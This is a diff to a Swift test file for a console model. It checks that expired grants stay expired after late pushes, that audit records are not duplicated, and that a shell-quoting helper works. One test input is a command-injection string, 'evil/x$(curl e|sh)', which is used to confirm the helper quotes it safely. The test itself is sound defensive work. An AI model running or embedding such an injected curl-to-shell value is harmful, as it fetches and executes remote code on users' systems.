@@ -274,6 +274,13 @@ struct ModelTests {
         #expect(m.state.message?.hasPrefix("held call fs/delete_file expired unanswered") == true && m.state.messageIsError)
         let again = m.applyPushed([expired])
         #expect(!again, "already expired: no second notice")
+        var late = expired
+        late.state = .pending
+        _ = m.applyPushed([late])
+        #expect(m.data.grants.first { $0.id == "g-1" }?.state == .expired, "a late push does not bring an ended grant back")
+        #expect(ConsoleModel.pasteable("g-1a2b") == "g-1a2b")
+        #expect(ConsoleModel.pasteable("evil/x$(curl e|sh)'") == #"'evil/x$(curl e|sh)'\''"# + "'", "quoted for a shell")
+        #expect(ConsoleModel.pasteable("a\u{1B}[2J") == "'a␛[2J'", "and escaped")
 
         var alerts = model(.sessions)
         let first = alerts.replaceAlerts(Fixtures.data.alerts), second = alerts.replaceAlerts(Fixtures.data.alerts)
@@ -337,6 +344,7 @@ struct ThemeTests {
         }
         var m = ConsoleModel(data: Fixtures.data)
         m.state.view = .audit
+        m.update { $0.audit = []; $0.chain = .unknown }
         let first = record(1, after: AuditRecord.genesisHash)
         let r1 = m.appendAudit(first)
         #expect(!r1, "nothing verified yet: the whole chain is checked")
@@ -356,5 +364,9 @@ struct ThemeTests {
         #expect(!r5, "a link to another record")
         let r6 = m.appendAudit(record(3, after: second.hash))
         #expect(r6)
+        // The push of a record the reload after an action already showed: no second row, no re-verify.
+        let rows = m.data.audit.count
+        let r7 = m.appendAudit(record(3, after: second.hash))
+        #expect(r7 && m.data.audit.count == rows)
     }
 }
